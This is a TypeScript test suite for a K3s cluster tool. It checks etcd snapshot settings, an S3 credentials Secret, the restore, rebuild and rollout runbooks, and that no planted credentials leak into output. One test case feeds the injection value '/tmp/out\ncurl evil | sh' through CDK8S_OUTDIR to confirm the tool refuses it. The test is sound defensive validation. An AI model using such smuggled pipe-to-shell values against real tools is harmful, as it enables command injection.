import * as fs from 'fs';
import * as path from 'path';
import { parse, stringify } from 'yaml';
import { parseConfig } from '../config/load';
import type { Config, RawConfig } from '../config/schema';
import { main, run } from '../main';
import { CREDENTIAL_ENV, CREDENTIAL_KEYS, etcdSnapshots } from '../model/etcd-backup';
import { layout } from '../model/layout';
import { PATHS } from '../model/paths';
import { k3sConfig } from '../node/k3s-config';
import { renderNodes, renderRecords } from '../node/render';
import { runbook, runbookLines } from '../operator/runbooks';
import { createSecretCommand, lifecycleCommand, SECRET_TYPE } from '../operator/runbooks/etcd-secret';
import { runbookRequest, type RunbookName } from '../operator/runbooks/names';
import { SERVER_DIR } from '../operator/runbooks/restore';
import { type Command, commandLines, type Runbook, wordText } from '../operator/runbooks/runbook';
import { synthSummary } from '../operator/summary';
import { hcloudFirewallRules } from '../model/cloud-firewall';
import { makePlan } from '../operator/plan/plan';
import { rolloutRunbook } from '../operator/runbooks/rollout';
import { matchingCluster, matchingLive } from './live-state';
import { tokenHash } from '../model/k3s-args';
import { commandsOf, testContext, testDerived } from './runbook-commands';
import { kubectlPath } from './layer';
import { K3S_SERVER_FLAGS, k3sArgvProblems, k3sConfigProblems } from './k3s-flags';
import { cleanEnv, explain, mustRun, run as runArgv } from './process';
import { production, productionRaw, tempDir, TEST_TOKEN, variant, variantText } from './support';

const fixture = JSON.parse(fs.readFileSync(path.join(__dirname, 'fixtures', 'k3s', 'etcd-s3.json'), 'utf8')) as {
  secretKeys: string[];
  secretIgnoredKeysAllowed: string[];
  envVars: Record<string, string[]>;
};
const ROOT = path.join(__dirname, '..');
const config = production();
const established = variant((raw) => (raw.cluster.established = true));
/** The production YAML with cluster.established: true (and any further change), as a file: what the CLI reads. */
function configFile(change: (raw: RawConfig) => void = () => {}, name = 'cluster.yaml'): string {
  const raw = productionRaw();
  raw.cluster.established = true;
  change(raw);
  const file = path.join(tempDir('runbook-config'), name);
  fs.writeFileSync(file, stringify(raw));
  return file;
}
const snapshots = etcdSnapshots(config)!;
const book = (name: RunbookName, node?: string, c: Config = config) => runbook(c, { name, node }, testContext(c));
const text = (c: Command) => commandLines(c).join('\n');
const words = (c: Command) => c.argv.map(wordText);
/** Index of the first step whose commands satisfy `pred` (-1 if none). */
const stepOf = (rb: Runbook, pred: (c: Command, on: string) => boolean) =>
  rb.steps.findIndex((s) => s.commands.some((c) => pred(c, s.on)));
const isK3sServer = (c: Command) => c.argv[0] === 'k3s' && c.argv[1] === 'server';
const allBooks = (): [string, Runbook][] => [
  ['etcd-secret', book('etcd-secret')],
  ['restore', book('restore')],
  ['restore (established)', book('restore', undefined, established)],
  ...established.cluster.nodes.map((n): [string, Runbook] => [
    `rebuild ${n.name} (established)`,
    book('rebuild', n.name, established),
  ]),
  ['adopt-snapshots', book('adopt-snapshots')],
  ['rollout (every server built by hand)', rolloutOfHandBuilt()],
];

/** The production cluster with an operator network (the shipped config has none: its rollout is refused). */
const reachable = variant((raw) => {
  raw.cluster.established = true;
  raw.firewall = { ...raw.firewall, operatorCidrs: ['198.51.100.0/24'] };
});

/** The rollout's plan for a cluster whose three servers were built by hand, the firewall as rendered. */
function handBuiltPlan(config: Config) {
  const records = renderRecords(config);
  return makePlan({
    config,
    records,
    rules: hcloudFirewallRules(config),
    live: matchingLive(config, () => ({})),
    out: layout(tempDir('rollout-out')),
    tokenAtHand: true,
    tokenHash: tokenHash(TEST_TOKEN),
    // Built by hand with the arguments the node files render: a rebuild is allowed.
    cluster: matchingCluster(config, records, TEST_TOKEN),
  });
}

/** The rollout for the production cluster as it runs today: three servers built by hand. */
function rolloutOfHandBuilt(): Runbook {
  return rolloutRunbook(reachable, handBuiltPlan(reachable), testContext(reachable));
}

describe('the rollout refuses to lock the operator out', () => {
  test('with firewall.operatorCidrs empty (the shipped config) it is refused, saying what to add', () => {
    expect(() => rolloutRunbook(established, handBuiltPlan(established), testContext(established))).toThrow(
      /firewall\.operatorCidrs is empty, so the Cloud Firewall admits no operator: .* add your address .* to firewall\.operatorCidrs/,
    );
  });
});

describe('etcdSnapshots config', () => {
  test('the servers get the schedule, the retention, etcd-s3 and the Secret name, and no other etcd-s3-* key', () => {
    for (const n of config.cluster.nodes) {
      const c = k3sConfig(config, n);
      expect(c).toMatchObject({
        'etcd-snapshot-schedule-cron': '0 */6 * * *',
        'etcd-snapshot-retention': 12,
        'etcd-s3': true,
        'etcd-s3-config-secret': 'k3s-etcd-s3',
      });
      // Any other etcd-s3-* key makes K3s ignore the Secret (pkg/etcd/s3/s3.go GetClient).
      expect(
        Object.keys(c)
          .filter((k) => k.startsWith('etcd-s3'))
          .filter((k) => !fixture.secretIgnoredKeysAllowed.includes(k)),
      ).toEqual([]);
      expect(k3sConfigProblems(c)).toEqual([]);
      expect(JSON.stringify(c)).not.toMatch(/backblazeb2|honeydue-etcd-snapshots|access-key|secret-key/);
    }
  });

  test('without the block, no etcd key is written and K3s keeps its defaults', () => {
    const off = variant((raw) => delete raw.etcdSnapshots);
    expect(Object.keys(k3sConfig(off, off.cluster.nodes[0]!)).filter((k) => k.startsWith('etcd'))).toEqual([]);
    expect(() => runbook(off, { name: 'restore' }, testContext(off))).toThrow(/etcdSnapshots is not set in the config/);
  });

  test('the bucket keeps the same number of schedule runs as each disk: retention × servers, unless s3Retention says otherwise', () => {
    expect(snapshots.settings['etcd-s3-retention']).toBe(String(12 * config.cluster.nodes.length));
    const own = variant((raw) => (raw.etcdSnapshots = { ...raw.etcdSnapshots!, s3Retention: 50 }));
    expect(etcdSnapshots(own)!.settings['etcd-s3-retention']).toBe('50');
  });

  // Refused etcdSnapshots settings, with field and message: test/config-table.test.ts.
});

describe('the Secret', () => {
  test('holds only keys K3s reads from it: the settings from the config and the two keys from the file', () => {
    const keys = [...Object.keys(snapshots.settings), ...snapshots.credentialKeys];
    expect(keys.filter((k) => !fixture.secretKeys.includes(k))).toEqual([]);
    // K3s names them after its flags; a restore passes the same names as flags.
    expect(keys.filter((k) => !K3S_SERVER_FLAGS.has(k))).toEqual([]);
    expect(Object.keys(snapshots.settings).sort()).toEqual([
      'etcd-s3-bucket',
      'etcd-s3-endpoint',
      'etcd-s3-folder',
      'etcd-s3-region',
      'etcd-s3-retention',
    ]);
  });

  test('the printed command, run by bash against kubectl 1.34, makes exactly that Secret, with the keys read from the file', () => {
    const home = tempDir('secret-home');
    fs.mkdirSync(path.join(home, '.config', 'honeydue'), { recursive: true });
    fs.writeFileSync(
      path.join(home, '.config', 'honeydue', 'etcd-s3.env'),
      'etcd-s3-access-key=PLANTED-ACCESS-KEY-ID\netcd-s3-secret-key=PLANTED/secret+key\n',
      { mode: 0o600 },
    );
    // kubectl as a function that only renders what it would create.
    const script = `kubectl() { "${kubectlPath()}" "$@" --dry-run=client -o json; }\n${text(createSecretCommand(snapshots))}\n`;
    const secret = JSON.parse(mustRun(['bash', '-c', script], { env: { PATH: process.env.PATH, HOME: home } }).stdout);
    const data = Object.fromEntries(
      Object.entries(secret.data as Record<string, string>).map(([k, v]) => [k, Buffer.from(v, 'base64').toString()]),
    );
    expect(secret).toMatchObject({
      kind: 'Secret',
      type: SECRET_TYPE,
      metadata: { name: 'k3s-etcd-s3', namespace: 'kube-system' },
    });
    expect(data).toEqual({
      ...snapshots.settings,
      'etcd-s3-access-key': 'PLANTED-ACCESS-KEY-ID',
      'etcd-s3-secret-key': 'PLANTED/secret+key',
    });
    expect(text(createSecretCommand(snapshots))).not.toContain('PLANTED');
  });
});

describe('every printed K3s command', () => {
  test.each(allBooks())(
    '%s: every k3s server flag is in the K3s v1.34.6 flag list, with a value of its kind',
    (_name, rb) => {
      for (const { command } of commandsOf(rb).filter(({ command }) => isK3sServer(command))) {
        expect(k3sArgvProblems(words(command).slice(2))).toEqual([]);
      }
    },
  );

  test.each(allBooks())(
    '%s: k3s etcd-snapshot subcommands carry no flags (their flags are not the server’s)',
    (_name, rb) => {
      for (const { command } of commandsOf(rb).filter(
        ({ command }) => command.argv[0] === 'k3s' && command.argv[1] === 'etcd-snapshot',
      )) {
        expect(command.argv).toHaveLength(3);
      }
    },
  );

  test('the flag check bites: a misspelt and a subcommand-only flag are reported', () => {
    expect(k3sArgvProblems(['--cluster-reset', '--etcd-s3-bucket-name=x', '--s3-bucket=x'])).toEqual([
      '--etcd-s3-bucket-name: not a k3s server flag',
      '--s3-bucket: not a k3s server flag',
    ]);
  });
});

describe('the restore runbook', () => {
  const rb = book('restore');
  const [first, ...others] = config.cluster.nodes;
  const isMvDb = (c: Command) => c.argv[0] === 'mv' && c.argv[1] === '/var/lib/rancher/k3s/server/db';
  const isMvServer = (c: Command) => c.argv[0] === 'mv' && c.argv[1] === SERVER_DIR;
  const isCpDb = (c: Command) => c.argv[0] === 'cp' && c.argv[2] === '/var/lib/rancher/k3s/server/db';
  const isCreate = (n: { name: string }) => (c: Command) =>
    c.argv.join(' ').startsWith(`hcloud server create --name ${n.name} `);
  const reset = stepOf(rb, isK3sServer);
  const firstStart = stepOf(rb, (c, where) => text(c) === 'systemctl start k3s' && where.startsWith(first!.name));

  test('stops K3s on every server before any data is touched, then resets the first server only, once', () => {
    const stop = stepOf(rb, (c, where) => text(c) === 'systemctl stop k3s' && where.startsWith('every server'));
    const resets = commandsOf(rb).filter(
      ({ command }) => isK3sServer(command) && command.argv.includes('--cluster-reset'),
    );
    expect(resets).toHaveLength(1);
    expect(resets[0]!.on.startsWith(first!.name)).toBe(true);
    expect(stop).toBeGreaterThanOrEqual(0);
    for (const n of config.cluster.nodes) expect(rb.steps[stop]!.on).toContain(n.name);
    const touches = commandsOf(rb).filter(
      ({ command }) => isCpDb(command) || isMvServer(command) || isMvDb(command) || command.argv[0] === 'sed',
    );
    expect(touches.length).toBeGreaterThan(config.cluster.nodes.length);
    for (const t of touches) expect(t.step - 1).toBeGreaterThan(stop);
  });

  test('the restoring server keeps server/db/etcd for K3s to rename itself: a dated copy before the reset, never a move', () => {
    const copy = stepOf(rb, (c, where) => isCpDb(c) && where.startsWith(first!.name));
    expect(copy).toBeGreaterThanOrEqual(0);
    expect(copy).toBeLessThan(reset);
    expect(
      rb.steps
        .filter((s) => s.on.startsWith(first!.name))
        .some((s) => s.commands.some((c) => isMvDb(c) || isMvServer(c))),
    ).toBe(false);
  });

  test('takes server: out of config.yaml for the reset and puts it back before K3s starts', () => {
    const sed = stepOf(rb, (c) => c.argv[0] === 'sed' && c.argv.includes(PATHS.k3sConfig));
    const back = stepOf(rb, (c) => c.argv[0] === 'mv' && c.argv[2] === PATHS.k3sConfig);
    expect([sed < reset, reset < back, back <= firstStart]).toEqual([true, true, true]);
    expect(words(rb.steps[sed]!.commands.find((c) => c.argv[0] === 'sed')!)).toEqual([
      'sed',
      '-i',
      "'/^server:/d'",
      PATHS.k3sConfig,
    ]);
  });

  test('passes the S3 settings as flags and the keys and token only as environment variables from files', () => {
    const resetCommand = commandsOf(rb).find(({ command }) => isK3sServer(command))!.command;
    const line = text(resetCommand);
    for (const [k, v] of Object.entries(snapshots.settings).filter(([k]) => k !== 'etcd-s3-retention'))
      expect(words(resetCommand)).toContain(`--${k}=${v}`);
    expect(words(resetCommand)).toContain('--etcd-s3');
    expect(line).not.toMatch(/--(etcd-s3-access-key|etcd-s3-secret-key|token)\b/);
    // The variables K3s really reads those flags from (urfave EnvVars).
    const env = Object.fromEntries((resetCommand.env ?? []).map(([k, v]) => [k, wordText(v)]));
    expect(Object.keys(env).sort()).toEqual(
      [...CREDENTIAL_KEYS.map((k) => fixture.envVars[k]![0]!), fixture.envVars.token![0]!].sort(),
    );
    for (const k of CREDENTIAL_KEYS) expect(env[CREDENTIAL_ENV[k]]).toBe(`"$(sed -n 's/^${k}=//p' /root/etcd-s3.env)"`);
    expect(env.K3S_TOKEN).toBe(`"$(cat ${PATHS.k3sServerToken})"`);
  });

  test('the rejoin steps move cred and tls aside with db (all of server/), before K3s starts, one server after the other', () => {
    let previous = firstStart;
    for (const n of others) {
      const step = rb.steps.findIndex((s) => s.on.startsWith(n.name));
      const cmds = rb.steps[step]!.commands;
      const moved = cmds.filter((c) => c.argv[0] === 'mv').map((c) => c.argv[1] as string);
      // Bootstrap data on disk newer than the datastore stops K3s ("… newer than datastore"): all three go.
      for (const part of ['db', 'cred', 'tls']) {
        const p = `/var/lib/rancher/k3s/server/${part}`;
        expect(moved.some((m) => p === m || p.startsWith(`${m}/`))).toBe(true);
      }
      const mv = cmds.findIndex((c) => c.argv[0] === 'mv');
      expect(mv).toBeGreaterThan(cmds.findIndex((c) => text(c) === 'systemctl is-active k3s'));
      expect(mv).toBeLessThan(cmds.findIndex((c) => text(c) === 'systemctl start k3s'));
      expect(step).toBeGreaterThan(previous);
      expect(cmds.some(isK3sServer)).toBe(false);
      previous = step;
    }
  });

  test('servers lost as well: only the first is built before the restore, every other one after the first is up again', () => {
    const [firstBuild, ...otherBuilds] = config.cluster.nodes.map((n) => stepOf(rb, isCreate(n)));
    expect(firstBuild).toBeGreaterThanOrEqual(0);
    expect(firstBuild).toBeLessThan(reset);
    expect(otherBuilds.every((i) => i > firstStart)).toBe(true);
    // No build line of another server comes before the reset.
    const buildsBefore = rb.steps
      .slice(0, reset)
      .flatMap((s) => s.commands.filter((c) => c.argv.slice(0, 3).join(' ') === 'hcloud server create'));
    expect(buildsBefore.map((c) => c.argv[4])).toEqual([first!.name]);
    // A lost server's Node comes back with the snapshot, with the password Secret that would refuse the new server.
    others.forEach((n, i) => {
      const cmds = rb.steps[otherBuilds[i]!]!.commands;
      expect(cmds.findIndex((c) => c.argv.slice(0, 4).join(' ') === `kubectl delete node ${n.name}`)).toBeLessThan(
        cmds.findIndex(isCreate(n)),
      );
    });
  });

  test('the build lines name the node files in the output directory the runbook was printed for', () => {
    const odd = runbook(
      config,
      { name: 'restore' },
      testContext(config, { configFile: 'prod/cluster.yaml', outdir: '/srv/honey due/out' }),
    );
    const create = commandsOf(odd)
      .map(({ command }) => command)
      .find(isCreate(others[0]!))!;
    expect(text(create)).toContain(
      `--user-data-from-file '/srv/honey due/out/cloud-init/${others[0]!.name}.user-data'`,
    );
  });
});

describe('the rebuild runbook', () => {
  const n = established.cluster.nodes[2]!;
  const rb = book('rebuild', n.alias, established);
  const at = (pred: (c: Command) => boolean) => stepOf(rb, (c) => pred(c));

  test('drains, shuts down, deletes the Node, checks the members, rebuilds, waits for Ready, uncordons: in that order', () => {
    const order = [
      at((c) => c.argv[0] === 'kubectl' && c.argv[1] === 'drain' && c.argv[2] === n.name),
      at((c) => c.argv.join(' ') === `hcloud server shutdown ${n.name}`),
      at((c) => c.argv.join(' ') === `kubectl delete node ${n.name} --timeout=5m`),
      rb.steps.findIndex(
        (s) => s.title.startsWith('Check the member list') && s.commands.some((c) => text(c).includes('/db/info')),
      ),
      at((c) => c.argv.join(' ') === `hcloud server delete ${n.name}`),
      at((c) => c.argv.join(' ') === `kubectl wait --for=condition=Ready node/${n.name} --timeout=20m`),
      at((c) => c.argv.join(' ') === `kubectl uncordon ${n.name}`),
    ];
    expect(order.every((i) => i >= 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(new Set(order).size).toBe(order.length);
  });

  test('the address survives: the Primary IP is checked before the old server is deleted', () => {
    const cmds = commandsOf(rb).map(({ command }) => command.argv.join(' '));
    const describe = cmds.indexOf(`hcloud primary-ip describe ${n.primaryIp}`);
    expect(n.primaryIp).toBe(`${n.name}-ipv4`);
    expect(describe).toBeGreaterThanOrEqual(0);
    expect(describe).toBeLessThan(cmds.indexOf(`hcloud server delete ${n.name}`));
  });

  test.each<[string, Config, number]>([
    ['a joining node', established, 2],
    ['the first node of an established cluster', established, 0],
    [
      'a node on a private network',
      variant((raw) => {
        raw.cluster.established = true;
        raw.cluster.privateNetwork = { cidr: '10.0.0.0/16', interface: 'enp7s0' };
        raw.cluster.nodes.forEach((node, i) => (node.privateIPv4 = `10.0.0.${i + 2}`));
      }),
      1,
    ],
  ])(
    'the rebuild step runs exactly the build lines the synth summary prints for %s, after the delete; the synth and the Primary IP check come first, before anything goes down',
    (_name, c, i) => {
      const node = c.cluster.nodes[i]!;
      const dir = path.join('dist', 'cloud-init');
      const summary = synthSummary(c, layout('dist'), testDerived(c), {
        written: renderNodes(c, { token: TEST_TOKEN }),
        token: { token: TEST_TOKEN, source: 'K3S_TOKEN', form: 'plain' },
      });
      const header = summary.findIndex((l) => l.startsWith(`${path.join(dir, `${node.name}.user-data`)}  `));
      expect(header).toBeGreaterThan(0);
      const end = summary.findIndex((l, j) => j > header && !l.startsWith('  '));
      const printed = summary
        .slice(header + 1, end)
        .filter((l) => l.startsWith('  hcloud '))
        .map((l) => l.slice(2));
      expect(printed.some((l) => l.startsWith(`hcloud server create --name ${node.name} `))).toBe(true);

      const steps = book('rebuild', node.name, c).steps;
      const linesOf = (s: (typeof steps)[number]) =>
        s.commands.map((cmd) => commandLines(cmd)[0]!.replace(/ {2}# .*$/, ''));
      expect(linesOf(steps[0]!)).toEqual([
        `CDK8S_OUTDIR=dist npm run synth -- --config=cluster.yaml --rebuild ${node.name}`,
        `hcloud primary-ip describe ${node.primaryIp}`,
      ]);
      const drain = steps.findIndex((s) => s.title.startsWith('Drain'));
      const rebuild = steps.findIndex((s) => s.title.startsWith('Rebuild'));
      expect(0).toBeLessThan(drain);
      expect(linesOf(steps[rebuild]!)).toEqual([`hcloud server delete ${node.name}`, ...printed]);
      expect(printed.at(-1)).toEqual(
        c.cluster.privateNetwork
          ? `hcloud server poweron ${node.name}`
          : expect.stringMatching(/^hcloud server create /),
      );
    },
  );

  test('every step says what to check, and the member check looks on another server', () => {
    for (const s of rb.steps) expect(s.check.length).toBeGreaterThan(20);
    const memberCheck = rb.steps.find((s) => s.title.startsWith('Check the member list'))!;
    expect(text(memberCheck.commands[0]!)).toContain(`root@${established.cluster.nodes[0]!.publicIPv4}`);
    expect(memberCheck.check).toContain(`none named ${n.name}-<hex>`);
  });

  test('no rebuild is printed for a cluster that is not established, whichever node: a rebuild means a running cluster', () => {
    const notEstablished = variant((raw) => (raw.cluster.established = false));
    for (const node of notEstablished.cluster.nodes) {
      expect(() => book('rebuild', node.name, notEstablished)).toThrow(
        new RegExp(`^--node ${node.name}: cluster.established is false in the config.*Set cluster.established: true`),
      );
    }
    const rebuilt = book('rebuild', 'hetzner1', established);
    expect(rebuilt.steps.find((s) => s.title.startsWith('Rebuild'))!.check).toContain(
      `joins ${config.cluster.nodes[1]!.name}`,
    );
  });

  test('an unknown node is refused with the names to use', () => {
    expect(() => book('rebuild', 'hetzner9', established)).toThrow(
      /--node hetzner9: no such node in cluster.nodes; use one of ubuntu-8gb-nbg1-2 \(hetzner1\)/,
    );
    expect(() => runbookRequest('rebuild', undefined)).toThrow(/needs --node NAME/);
  });
});

describe('the rebuild’s synth step, run as printed', () => {
  const BLOB = path.join(ROOT, 'build', 'synth.blob');

  beforeAll(() => {
    // A source newer than the snapshot makes this run rebuild it; the copies below cannot see the sources.
    const r = runArgv([process.execPath, '--snapshot-blob', BLOB, '--', '--version'], {
      env: { PATH: process.env.PATH },
    });
    if (r.status !== 0) throw new Error(explain(r));
  }, 180_000);

  /**
   * A checkout as the operator has it, as far as `npm run synth` needs one: package.json, the
   * built snapshot, and the repository's own cluster.yaml (the default a step that forgot its
   * config would render).
   */
  function checkout(clusterYaml?: string): string {
    const dir = tempDir('checkout');
    // Links, not copies: a file newer than the snapshot would make the run try to rebuild it.
    fs.symlinkSync(path.join(ROOT, 'package.json'), path.join(dir, 'package.json'));
    fs.symlinkSync(path.join(ROOT, 'build'), path.join(dir, 'build'));
    if (clusterYaml === undefined) fs.symlinkSync(path.join(ROOT, 'cluster.yaml'), path.join(dir, 'cluster.yaml'));
    else {
      // Dated back, for the same reason.
      fs.writeFileSync(path.join(dir, 'cluster.yaml'), clusterYaml);
      fs.utimesSync(path.join(dir, 'cluster.yaml'), 0, 0);
    }
    return dir;
  }

  /** The runbook's lines as the CLI prints them for `argv` and `env`. */
  function printed(argv: string[], env: NodeJS.ProcessEnv): string[] {
    const lines: string[] = [];
    expect(main(argv, env, (l) => void lines.push(l))).toBe(0);
    return lines;
  }

  /** An operator's shell in `cwd` for npm: PATH, a fresh HOME, no update notice, and exactly `env`. */
  const npmShell = (cwd: string, env: NodeJS.ProcessEnv = {}) =>
    cleanEnv(cwd, { HOME: tempDir('npm-home'), npm_config_update_notifier: 'false', ...env });

  /** The synth line of the printed rebuild runbook, run by bash in `cwd` with exactly `env` (and PATH, HOME). */
  function runSynthLine(lines: string[], cwd: string, env: NodeJS.ProcessEnv = {}) {
    const line = lines.find((l) => /\bnpm run synth\b/.test(l) && !l.startsWith('#'))!;
    expect(line).toBeDefined();
    const r = runArgv([...npmShell(cwd, env), 'bash', '-c', line]);
    return { line, ...r };
  }

  test('a rebuild with no token at hand is refused, and no token file appears', () => {
    const cwd = checkout();
    const out = path.join(tempDir('rebuild-out'), 'dist');
    const lines = printed(['--runbook', 'rebuild', '--node', 'hetzner2', '--config', configFile()], {
      K3S_TOKEN: TEST_TOKEN,
      CDK8S_OUTDIR: out,
    });
    const r = runSynthLine(lines, cwd);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(
      /^error: cluster.established is true but there is no cluster token: .*Copy \/var\/lib\/rancher\/k3s\/server\/token from a running server/m,
    );
    expect(fs.existsSync(path.join(cwd, '.secrets', 'k3s-token'))).toBe(false);
    expect(fs.existsSync(out)).toBe(false);
  });

  test('--rebuild is refused for a cluster that is not established, even with a token at hand, and makes no token', () => {
    const cwd = checkout(variantText((r) => void (r.cluster.established = false)));
    const r = runArgv([...npmShell(cwd), 'npm', 'run', 'synth', '--', '--rebuild', 'hetzner2']);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^error: --rebuild ubuntu-8gb-nbg1-1: cluster.established is false in the config/m);
    expect(fs.readdirSync(cwd).sort()).toEqual(['build', 'cluster.yaml', 'package.json']);
  });

  test.each([
    ['--config', (file: string) => ({ argv: ['--config', file], env: {} })],
    ['HONEYDUE_CONFIG', (file: string) => ({ argv: [], env: { HONEYDUE_CONFIG: file } })],
  ])(
    'the printed synth step, run as printed with bash, renders from the same config (given by %s) into the same directory',
    (_how, given) => {
      const cwd = checkout();
      // An address only the runbook's config has, and paths a shell would split or expand.
      const file = configFile((raw) => (raw.cluster.nodes[1]!.publicIPv4 = '198.51.100.21'), 'prod $HOME (1).yaml');
      const out = path.join(tempDir('rebuild-out'), "out dir's $PATH");
      const { argv, env } = given(file);
      const lines = printed(['--runbook', 'rebuild', '--node', 'hetzner2', ...argv], {
        K3S_TOKEN: TEST_TOKEN,
        CDK8S_OUTDIR: out,
        ...env,
      });
      // The operator's shell may export other values: the printed line must not depend on them.
      const r = runSynthLine(lines, cwd, {
        K3S_TOKEN: TEST_TOKEN,
        CDK8S_OUTDIR: path.join(cwd, 'elsewhere'),
        HONEYDUE_CONFIG: path.join(cwd, 'cluster.yaml'),
      });
      expect(r.status === 0 ? '' : explain(r)).toBe('');
      const userData = fs.readFileSync(path.join(out, 'cloud-init', 'ubuntu-8gb-nbg1-1.user-data'), 'utf8');
      expect(userData).toContain('198.51.100.21');
      // The first node joins the second: the runbook's config is established.
      expect(fs.readFileSync(path.join(out, 'cloud-init', 'ubuntu-8gb-nbg1-2.user-data'), 'utf8')).toContain(
        'server: https://198.51.100.21:6443',
      );
      expect(fs.existsSync(path.join(cwd, 'elsewhere'))).toBe(false);
      expect(fs.existsSync(path.join(cwd, 'dist'))).toBe(false);
      // And the build lines that follow name the file it wrote.
      expect(lines.find((l) => l.startsWith('hcloud server create'))).toContain(
        shellQuoted(path.join(out, 'cloud-init', 'ubuntu-8gb-nbg1-1.user-data')),
      );
    },
  );

  test.each<[string, (file: string) => { argv: string[]; env: NodeJS.ProcessEnv }, RegExp]>([
    [
      'CDK8S_OUTDIR with a line break',
      (file) => ({ argv: ['--config', file], env: { CDK8S_OUTDIR: '/tmp/out\ncurl evil | sh' } }),
      /^CDK8S_OUTDIR "\/tmp\/out\\u000acurl evil \| sh" holds U\+000A at character 9: /,
    ],
    [
      '--config with a carriage return',
      (file) => ({ argv: ['--config', `${file}\r.yaml`], env: {} }),
      /^--config ".*\\u000d\.yaml" holds U\+000D/,
    ],
    [
      'HONEYDUE_CONFIG with a line separator',
      (file) => ({ argv: [], env: { HONEYDUE_CONFIG: `${file}\u2028.yaml` } }),
      /^HONEYDUE_CONFIG ".*\\u2028\.yaml" holds U\+2028/,
    ],
  ])('a path from the command line or the environment with %s is refused, not printed', (_name, given, message) => {
    // The files exist under those names, so only the printing can refuse them.
    const file = configFile();
    for (const odd of [`${file}\r.yaml`, `${file}\u2028.yaml`]) fs.copyFileSync(file, odd);
    const { argv, env } = given(file);
    const lines: string[] = [];
    expect(() =>
      main(
        ['--runbook', 'rebuild', '--node', 'hetzner2', ...argv],
        { K3S_TOKEN: TEST_TOKEN, ...env },
        (l) => void lines.push(l),
      ),
    ).toThrow(message);
    expect(lines).toEqual([]);
  });
});

/** A path as `shellWord` prints it. */
function shellQuoted(p: string): string {
  return /^[A-Za-z0-9_@%+=:,./-]+$/.test(p) ? p : `'${p.replace(/'/g, `'\\''`)}'`;
}

describe('node names and aliases are one namespace', () => {
  const problems = (change: (raw: RawConfig) => void) => {
    const raw = productionRaw();
    change(raw);
    try {
      parseConfig(stringify(raw), 'cluster.yaml');
    } catch (e) {
      return (e as Error).message.split('\n').slice(1);
    }
    return [];
  };

  test('colliding aliases are refused, with the line and field to fix', () => {
    expect(problems((raw) => (raw.cluster.nodes[2]!.alias = 'hetzner1'))).toEqual([
      expect.stringMatching(
        /^ {2}- line \d+, cluster\.nodes\.2\.alias: hetzner1 is already the alias of cluster\.nodes\[0\]; --node hetzner1 would pick that node/,
      ),
    ]);
  });

  test('an alias equal to another node’s name is refused, whichever comes first', () => {
    expect(problems((raw) => (raw.cluster.nodes[0]!.alias = 'ubuntu-8gb-nbg1-1'))).toEqual([
      expect.stringMatching(
        /^ {2}- line \d+, cluster\.nodes\.0\.alias: ubuntu-8gb-nbg1-1 is already the name of cluster\.nodes\[1\]/,
      ),
    ]);
    expect(problems((raw) => (raw.cluster.nodes[2]!.alias = 'ubuntu-8gb-nbg1-2'))).toEqual([
      expect.stringMatching(
        /^ {2}- line \d+, cluster\.nodes\.2\.alias: ubuntu-8gb-nbg1-2 is already the name of cluster\.nodes\[0\]/,
      ),
    ]);
  });

  test('a node’s alias may equal its own name, and distinct aliases pass', () => {
    expect(problems((raw) => (raw.cluster.nodes[1]!.alias = raw.cluster.nodes[1]!.name))).toEqual([]);
    expect(problems(() => {})).toEqual([]);
  });
});

describe('the etcd-secret runbook', () => {
  const rb = book('etcd-secret');
  const b2 = JSON.parse(fs.readFileSync(path.join(__dirname, 'fixtures', 'b2', 'b2-cli.json'), 'utf8'));

  test('names the lifecycle rule that makes K3s’s prune delete on B2, and how to check it', () => {
    const update = commandsOf(rb).find(
      ({ command }) => command.argv.slice(0, 3).join(' ') === b2.bucketUpdate.command.join(' '),
    )!;
    expect(update).toBeDefined();
    const option = update.command.argv.find(
      (w) => typeof w === 'string' && w.startsWith(`${b2.bucketUpdate.lifecycleRuleOption}=`),
    ) as string;
    expect(JSON.parse(option.slice(option.indexOf('=') + 1))).toEqual({
      ...b2.lifecycleRule.keepOnlyTheLastVersion,
      fileNamePrefix: `${snapshots.settings['etcd-s3-folder']}/`,
    });
    expect(update.command.argv.slice(-2)).toEqual([snapshots.settings['etcd-s3-bucket'], 'allPrivate']);
    const step = rb.steps[update.step - 1]!;
    expect(step.commands.map((c) => c.argv.join(' '))).toContain(
      `${b2.bucketGet.command.join(' ')} ${snapshots.settings['etcd-s3-bucket']}`,
    );
    expect(step.check).toContain('Keep only the last version');
    expect(step.check).toContain('daysFromHidingToDeleting');
    // Before the first snapshot is taken by hand.
    expect(update.step).toBeLessThan(stepOf(rb, (c) => c.argv.join(' ') === 'k3s etcd-snapshot save') + 1);
  });

  test('the printed rule is one shell word that bash hands to b2 unchanged', () => {
    const argv = JSON.parse(
      mustRun([
        'bash',
        '-c',
        `node -e 'console.log(JSON.stringify(process.argv.slice(1)))' -- ${commandLines(lifecycleCommand(snapshots))[0]!.replace(/ {2}# .*$/, '')}`,
      ]).stdout,
    );
    expect(argv).toEqual(lifecycleCommand(snapshots).argv);
  });
});

describe('the CLI', () => {
  const PLANTED = { AWS_ACCESS_KEY_ID: 'PLANTED-ACCESS-KEY-ID-0001', AWS_SECRET_ACCESS_KEY: 'PLANTED-SECRET-KEY-0002' };

  test('no credential in any output: runbooks, summary and dist/ never carry a key or the token', () => {
    const out = tempDir('day-two-dist');
    const env = { ...PLANTED, K3S_TOKEN: TEST_TOKEN, CDK8S_OUTDIR: out, HONEYDUE_CONFIG: configFile() };
    const logged: string[] = [];
    const log = (l: string) => logged.push(l);
    expect(main([], env, log)).toBe(0);
    for (const argv of [
      ['--runbook', 'etcd-secret'],
      ['--runbook', 'restore'],
      ['--runbook', 'rebuild', '--node', 'hetzner2'],
    ])
      expect(main(argv, env, log)).toBe(0);
    const all = logged.join('\n');
    for (const secret of [...Object.values(PLANTED), TEST_TOKEN]) expect(all).not.toContain(secret);
    for (const f of fs.readdirSync(out).filter((x) => x.endsWith('.yaml'))) {
      for (const secret of [...Object.values(PLANTED), TEST_TOKEN])
        expect(fs.readFileSync(path.join(out, f), 'utf8')).not.toContain(secret);
    }
    // The summary points at the Secret's runbook, once.
    expect(logged.filter((l) => l.includes('--runbook etcd-secret'))).toHaveLength(1);
  });

  test('the rebuild runbook names the node file where synth writes it (CDK8S_OUTDIR)', () => {
    const out = tempDir('day-two-outdir');
    const logged: string[] = [];
    expect(
      main(
        ['--runbook', 'rebuild', '--node', 'hetzner2', '--config', configFile()],
